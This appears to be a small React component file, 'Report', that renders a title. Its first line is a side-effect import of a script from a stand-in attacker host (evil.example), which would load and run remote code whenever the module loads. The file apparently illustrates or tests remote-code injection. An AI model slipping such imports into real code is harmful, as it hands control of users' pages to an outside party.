import "https://evil.example/x.js";
export default function Report({ data }) {
  return <p>{data.title}</p>;
}
